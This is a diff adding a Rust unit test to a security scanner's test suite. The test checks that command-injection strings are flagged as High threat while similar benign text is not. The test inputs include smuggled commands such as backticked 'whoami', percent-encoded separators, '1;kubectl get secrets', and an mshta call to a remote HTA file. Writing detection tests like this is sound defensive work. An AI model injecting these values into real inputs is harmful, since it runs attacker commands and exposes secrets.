@@ -1411,3 +1411,42 @@ fn orders_hidden_in_a_document_are_caught_and_their_benign_shapes_are_not() {
         assert!(r.level < ThreatLevel::High, "{:.200}: {r:?}", t.trim_start());
     }
 }
+
+/// Command injection a third review found below High: a whole payload in backticks, a backtick
+/// glued to a value, a separator percent-encoded past a filter, and commands the separator list
+/// lacked. Their benign neighbours (inline code in prose, Markdown tables naming the same
+/// tools, a query string with one escaped `&`, a postscript after a semicolon) stay below.
+#[test]
+fn backticked_escaped_and_newly_listed_commands_are_caught() {
+    let mut s = Scanner::builtin();
+    for t in [
+        "`id`",
+        " `uname -a` ",
+        "`ps -ef`",
+        "name=x`whoami`",
+        "%3Bid",
+        "%7Cid",
+        "%26%26id",
+        "%60id%60",
+        "x%0Aid",
+        "file.txt;env",
+        "x&&env",
+        "1;kubectl get secrets",
+        "google.com|ps aux",
+        "report.pdf; mshta http://203.0.113.7/a.hta",
+    ] {
+        let r = s.scan(t.as_bytes());
+        assert!(r.level >= ThreatLevel::High, "{t:?}: {r:?}");
+    }
+    for t in [
+        "Run `whoami` to see which user you are.",
+        "Use `id` to print your uid and `ps -ef` to list processes.",
+        "| tool | version |\n| --- | --- |\n| kubectl | 1.29 |\n| env | production |\n| ps | 12 |",
+        "https://shop.example.com/search?q=rock%26roll&page=2",
+        "Thanks for the notes; PS I'll be late tomorrow.",
+        "The bill is 50% off; the rest is due in March.",
+    ] {
+        let r = s.scan(t.as_bytes());
+        assert!(r.level < ThreatLevel::High, "{t:?}: {r:?}");
+    }
+}
